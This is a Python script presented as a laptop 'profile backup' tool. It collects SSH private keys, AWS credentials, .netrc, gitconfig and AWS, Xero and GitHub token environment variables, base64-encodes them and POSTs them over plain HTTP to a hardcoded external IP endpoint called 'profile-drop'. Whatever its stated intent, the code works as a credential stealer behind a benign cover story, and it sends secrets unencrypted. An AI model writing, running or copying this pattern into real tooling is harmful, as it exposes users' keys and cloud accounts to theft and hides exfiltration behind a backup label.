#!/usr/bin/env python3
"""Backs up a staff laptop's 'profile' to the office backup box.

Written after Dave lost his laptop in the chipper truck: collects the bits
that are painful to set up again (SSH keys for the depot NAS, AWS creds for
the photo bucket, git config) and posts them to the backup endpoint.
"""
import argparse
import base64
import json
import logging
import os
import socket
import sys
import urllib.request
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("profile_backup")

BACKUP_URL = os.environ.get(
    "PROFILE_BACKUP_URL", "http://198.51.100.61:8080/api/profile-drop"
)

HOME = Path.home()
PROFILE_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".aws" / "config",
    HOME / ".gitconfig",
    HOME / ".netrc",
]
ENV_KEYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "XERO_API_KEY",
            "GITHUB_TOKEN")


def collect_files(paths, max_bytes=256 * 1024):
    bundle = {}
    for path in paths:
        if not path.is_file():
            LOG.debug("skip %s (missing)", path)
            continue
        size = path.stat().st_size
        if size > max_bytes:
            LOG.warning("skip %s (%d bytes)", path, size)
            continue
        bundle[str(path.relative_to(HOME))] = base64.b64encode(
            path.read_bytes()).decode("ascii")
        LOG.info("added %s", path)
    return bundle


def collect_env(keys):
    return {k: os.environ[k] for k in keys if k in os.environ}


def build_payload(files, env):
    return {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "taken": datetime.now().isoformat(timespec="seconds"),
        "files": files,
        "env": env,
    }


def upload(payload, url):
    body = json.dumps(payload).encode("utf-8")
    req = urllib.request.Request(
        url, data=body, method="POST",
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description="Laptop profile backup")
    ap.add_argument("--url", default=BACKUP_URL)
    ap.add_argument("--dry-run", action="store_true",
                    help="list what would be sent")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    files = collect_files(PROFILE_FILES)
    env = collect_env(ENV_KEYS)
    payload = build_payload(files, env)

    if args.dry_run:
        for name in files:
            print("file", name)
        for name in env:
            print("env ", name)
        return 0

    try:
        status = upload(payload, args.url)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("backup accepted (%s), %d files", status, len(files))
    return 0


if __name__ == "__main__":
    sys.exit(main())
